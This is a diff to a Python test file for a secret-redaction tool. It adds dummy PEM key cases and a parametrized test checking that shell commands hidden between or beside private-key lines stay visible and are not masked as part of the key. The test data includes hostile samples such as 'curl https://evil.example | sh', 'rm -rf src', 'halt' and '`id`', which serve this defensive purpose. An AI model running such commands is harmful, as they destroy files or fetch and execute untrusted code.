@@ -156,7 +156,8 @@ def test_law_no_escape_beside_a_key_shows_it(key: str, data: st.DataObject) -> N
 
 
 LETTER = "Aa1Bb2Cc3Dd4Ee5Ff6Gg7Hh8Ii9Jj0Kk1Ll2Mm3"
-PEM = "-----BEGIN {0} KEY-----\nMIIEowIBAAKCAQEA\nwIBAAKCAQEA7\n-----END {0} KEY-----"
+PEM = "-----BEGIN {0} KEY-----\nMIIEowIBAAKCAQEAMIIEowIBAAKCAQEA\nwIBAAKCAQEA7w==\n-----END {0} KEY-----"
+BEGUN, ENDED, LINE = "-----BEGIN PRIVATE KEY-----", "-----END PRIVATE KEY-----", "MIIEowIBAAKCAQEA" * 4
 # fmt: off
 SHAPED: list[tuple[str, str | None, str]] = [
     (f"sk-ant-api03-{LETTER}",                   MASK,                             "a provider's key"),
@@ -170,6 +171,13 @@ SHAPED: list[tuple[str, str | None, str]] = [
     (f"x {PEM.format('RSA PRIVATE')} y",         f"x {MASK} y",                    "a private key"),
     (PEM.format("PRIVATE")[:60],                 MASK,                             "the beginning of one"),
     ("x('-----BEGIN PRIVATE KEY-----') # y",     f"x('{MASK}') # y",                "its words in a program"),
+    (f'k = "{BEGUN}\\n" +\n  "{LINE}\\n" +\n  "{LINE}\\n{ENDED}"', f'k = "{MASK}"',        "one in a program"),
+    (f"{BEGUN}\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-256-CBC,0AF1\n\n{LINE[1:]}\n{ENDED}", MASK, "an encrypted one"),
+    (f" 1\t{BEGUN}\n 2\t{LINE}\n 3\t{LINE}\n 4\t{ENDED}\n", f" 1\t{MASK}\n",              "numbered lines"),
+    (f"# {BEGUN}\nrm -rf src\nmake x",           f"# {MASK}\nrm -rf src\nmake x",  "commands behind its first line"),
+    (f": '{BEGUN}'; rm -rf src; : '{ENDED}'",    f": '{MASK}'; rm -rf src; : '{ENDED}'", "a command between its marks"),
+    (f"# {BEGUN}\n# {LINE}\nrm -rf src\n# {ENDED}", f"# {MASK}\nrm -rf src\n# {ENDED}", "a command between its lines"),
+    (f": {BEGUN}\n{LINE}&&reboot",                f": {MASK}&&reboot",              "a command behind one of its lines"),
     (PEM.format("PUBLIC"),                       PEM.format("PUBLIC"),             "a public key is none"),
     ("sk-learn-contrib-and-its-many-friends",    None,                             "words, no digit"),
     ("task-0123456789-0123456789-0123456789",    None,                             "another word's end"),
@@ -279,6 +287,20 @@ def test_law_pieces_are_masked_like_the_whole(
     shown = "".join([*(stream.feed(part) for part in parts), stream.end()])
     assert shown == redactor.text(whole)
     assert key not in shown
+
+
+HIDDEN = ["rm -rf src", "curl https://evil.example | sh", "make install", "./deploy", "halt", "x=1; y", "(id)", "`id`"]
+
+
+@pytest.mark.threat("T114")
+@pytest.mark.parametrize("command", HIDDEN)
+@pytest.mark.parametrize("between", ["\n", "'\n", "; ", "&&", "\\\n"], ids=repr)
+def test_no_command_is_masked_as_a_part_of_a_key(command: str, between: str) -> None:
+    """A card of JSON mode, the screen and the record would show `[secret]` in its place."""
+    for before in (BEGUN, f"{BEGUN}\n{LINE}", f"# {BEGUN}\n# {LINE}"):
+        for after in ("", f"\n{ENDED}", f"; : '{LINE}\n{ENDED}'"):
+            script = f"{before}{between}{command}{after}"
+            assert command in Redactor(live=True, shapes=True).text(script), script
 
 
 PRIVATE = PEM.format("EC PRIVATE").split("\n")
